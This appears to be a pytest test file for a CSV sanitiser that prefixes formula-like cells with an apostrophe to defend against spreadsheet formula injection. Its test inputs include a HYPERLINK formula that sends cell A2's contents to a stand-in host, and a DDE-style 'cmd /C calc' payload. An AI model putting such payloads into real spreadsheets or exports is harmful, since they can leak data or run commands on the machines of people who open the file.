"""CSV cells a spreadsheet could run as formulas are neutralised; numbers stay numbers."""

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scrutiny.core.csv_cells import FORMULA_STARTS, dict_writer, safe_cell


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("https://example.org/?"&A2,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
     "\t=1+1", "\n=1+1", "-", "=", "+cmd"],
)
def test_text_that_could_start_a_formula_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-3, -25.0, Decimal("-4.5"), 0, True, None, "-3", "-25.0", "+7", "-1e3",
                                   "Deliberate fires", "KFRS", "", "a=b", " =1"])
def test_numbers_and_plain_text_are_unchanged(value):
    assert safe_cell(value) is value


@given(st.text())
def test_no_written_cell_starts_a_formula_unless_it_is_a_plain_number(text):
    out = io.StringIO()
    writer = dict_writer(out, ["cell"], lineterminator="\n")
    writer.writerows([{"cell": text}])
    (row,) = csv.reader(io.StringIO(out.getvalue(), newline=""))
    (cell,) = row or [""]
    if cell.startswith(FORMULA_STARTS):
        float(cell)  # what is left is a number, which is no formula
    written = text.replace("\r\n", "\n").replace("\r", "\n")  # line breaks kept, as LF
    assert cell.removeprefix("'") == written or cell == written


def test_the_header_and_each_row_are_neutralised_by_the_writer():
    out = io.StringIO()
    writer = dict_writer(out, ["=name", "change"], lineterminator="\n")
    writer.writeheader()
    writer.writerow({"=name": "=1+1", "change": -4})
    writer.writerows([{"=name": "@x", "change": Decimal("-2.5")}])
    assert out.getvalue() == "'=name,change\n'=1+1,-4\n'@x,-2.5\n"
